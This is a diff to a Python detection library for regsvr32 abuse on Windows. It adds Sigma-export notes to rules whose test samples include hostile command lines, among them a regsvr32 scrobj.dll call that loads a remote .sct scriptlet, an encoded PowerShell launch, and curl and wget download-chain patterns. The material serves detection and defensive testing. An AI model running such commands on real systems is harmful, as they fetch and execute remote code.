         "regsvr32 /s C:\\Windows\\System32\\wbem\\wmidcprv.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=not_exportable("needs the module's resolved folder and the table of folders Windows creates in System32"))
 def system_subfolder(inv):
     for m in inv.modules:
         c = m.comps
@@ -1191,7 +1353,8 @@ def system_subfolder(inv):
         {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
          "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
         {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
+      sigma=not_exportable("compares the parsed modules of the child with those of the parent's command line"))
 def second_stage(ev):
     if not ev.parent_command_line:
         return None
@@ -1234,7 +1397,8 @@ def _regsvr32_in(text, names=()):
       negatives=(
         {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "CommandLine": "powershell.exe -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA=="},
-        {"EventCode": "4698", "TaskContent": "<Exec><Command>regsvr32.exe</Command></Exec>"},))
+        {"EventCode": "4698", "TaskContent": "<Exec><Command>regsvr32.exe</Command></Exec>"},),
+      sigma=not_exportable("needs the encoded PowerShell command decoded (base64 of UTF-16LE)"))
 def encoded_launch(ev):
     for how, text in (("command line", ev.command_line), ("scheduled task", ev.task_content),
                       ("service", ev.service_path), ("registry value", ev.registry_data),
@@ -1262,7 +1426,8 @@ def encoded_launch(ev):
       negatives=(
         {"Image": "C:\\Windows\\System32\\rundll32.exe",
          "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl regsvr32"},
-        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},))
+        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},),
+      sigma=not_exportable("pairs each launcher with the word that makes it launch, which one field match cannot"))
 def proxy_launch(ev):
     if ev.is_regsvr32:
         return None
@@ -1290,7 +1455,8 @@ def proxy_launch(ev):
       negatives=(
         'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        "regsvr32 /s C:\\ProgramData\\x.dll",))
+        "regsvr32 /s C:\\ProgramData\\x.dll",),
+      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
 def code_word(inv):
     if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
         return None
@@ -1312,7 +1478,8 @@ def code_word(inv):
         'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s vbscript.dll",))
+        "regsvr32 /s vbscript.dll",),
+      sigma=not_exportable("informational context: every module outside Windows, resolved"))
 def third_party_module(inv):
     for m in inv.modules:
         if m.location != winpath.WINDOWS:
@@ -1347,7 +1514,8 @@ PROFILE_MICROSOFT_FOLDERS = frozenset((
         "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
       negatives=(
         "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll",
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder and the table of Microsoft's own profile folders"))
 def fake_microsoft_folder(inv):
     for m in inv.modules:
         c = m.comps
@@ -1374,7 +1542,8 @@ _DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")
         "regsvr32.exe 102755.dll",),
       negatives=(
         "regsvr32 /s 7z.dll",
-        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',))
+        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',),
+      sigma=not_exportable("needs the module's own file name, parsed out of the command line"))
 def digits_only(inv):
     for m in inv.modules:
         stem = m.name[:-len(m.ext) - 1] if m.ext else m.name
@@ -1408,7 +1577,8 @@ _CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget")
       negatives=(
         {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
         {"CommandLine": "regsvr32 /s x.dll",
-         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},))
+         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},),
+      sigma=not_exportable("reads the parent's command line for a download or delay step before regsvr32"))
 def download_chain(ev):
     low = ev.parent_command_line.lower()
     at = low.find("regsvr32")
@@ -1435,7 +1605,8 @@ def download_chain(ev):
         "regsvr32 /s C:\\Users\\bob\\Desktop\\invoice.dll",),
       negatives=(
         "regsvr32 /s C:\\Users\\bob\\Downloads\\codec-pack\\x.ax",
-        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",))
+        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",),
+      sigma=not_exportable("needs the module resolved against the working directory and its depth below the folder"))
 def user_files(inv):
     for t in _payloads(inv):
         if t.staging and t.where in USER_FILE_FOLDERS:
@@ -1530,7 +1701,8 @@ def _written_names(t):
         "regsvr32 -s ..\\..\\tools\\PartCover\\PartCover.CorDriver.dll",
         "regsvr32.exe ..\\x64\\Debug\\WmiProviderExample.dll",),
       false_positives="A build or sample script that keeps a short lower-case module in the "
-                      "folder above the one it runs in.")
+                      "folder above the one it runs in.",
+      sigma=not_exportable("needs the module argument parsed out of the command line and its file name read"))
 def parent_folder_download(inv):
     for m in inv.modules:
         raw = m.raw.strip().replace("/", "\\")
@@ -1576,7 +1748,8 @@ def parent_folder_download(inv):
         "regsvr32 /s C:\\Users\\Public\\x84wFBc7.dll",),
       false_positives="Software installed in a root folder with an abbreviated name (consonant "
                       "runs such as C:\\Tools\\DirBkgndExt when five letters long) or numbered "
-                      "control files right in it.")
+                      "control files right in it.",
+      sigma=not_exportable("needs the module's resolved folder and each folder and file name judged as made up"))
 def root_folder_made_up(inv):
     for m in inv.modules:
         if m.location != winpath.OTHER or m.where == "drive root" or len(m.comps) < 3:
@@ -1618,7 +1791,8 @@ def root_folder_made_up(inv):
       negatives=(
         "regsvr32 /s /u C:\\ProgramData\\x.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).")
+      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).",
+      sigma=not_exportable("needs the switches parsed as regsvr32 reads them (one letter after the dash)"))
 def typed_switch(inv):
     typed = list(inv.spelled_switches) + list(inv.unknown_switches)
     if not typed:
@@ -1648,7 +1822,8 @@ PER_USER_WORDS = frozenset(("user", "u", "/user", "-user", "peruser", "per-user"
         'regsvr32 /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll"',
         'regsvr32 /s /n /i:Install "C:\\Program Files\\Vendor\\x.dll"',
         "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
-      false_positives="A per-user install whose DllInstall takes its own word.")
+      false_positives="A per-user install whose DllInstall takes its own word.",
+      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
 def per_user_code_word(inv):
     if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
         return None
@@ -1678,7 +1853,9 @@ _ATOMIC_TEST = re.compile(r"^t[0-9]{4}(?:\.[0-9]{3})?$")
       negatives=(
         "regsvr32 /s C:\\Tools\\atomics\\bin\\x.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="Purple-team exercises, by design.")
+      false_positives="Purple-team exercises, by design.",
+      sigma=not_exportable("needs the module's resolved path and an atomics\\T<number> folder in it; a "
+                           "substring match would also match the test's own download URL in other tools"))
 def atomic_test(inv):
     for t in inv.targets:
         comps = t.lower.split("\\")
@@ -1742,7 +1919,17 @@ _TRUST_PROVIDERS = ("AMSI provider", "SIP provider", "trust provider")
          "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\VendorTime\\DllName",
          "Details": "C:\\Program Files\\Vendor\\vtime.dll"},),
       false_positives="Security products and signing tools whose installer registers their own "
-                      "AMSI or SIP provider with regsvr32 (allowlist them by key).")
+                      "AMSI or SIP provider with regsvr32 (allowlist them by key).",
+      sigma=spec("approximate", "registry_set",
+                 {"selection": dict(BY_REGSVR32, **{"TargetObject|contains": [
+                     "\\AMSI\\Providers\\", "\\CryptSIPDll", "\\Cryptography\\Providers\\Trust\\"]}),
+                  "filter_windows": {"Details|startswith": ["C:\\Windows\\", "%SystemRoot%",
+                                                            "%windir%"]},
+                  "filter_function": {"TargetObject|endswith": "\\FuncName"}},
+                 "selection and not filter_windows and not filter_function",
+                 "the AMSI, SIP and trust provider keys only (not time providers, print "
+                 "monitors, netsh helpers or AppInit), and the module path matched by its "
+                 "start, not resolved"))
 def provider_hijack(ev):
     key = ev.registry_path.lower()
     for part, what, key_alone in PROVIDER_KEYS:
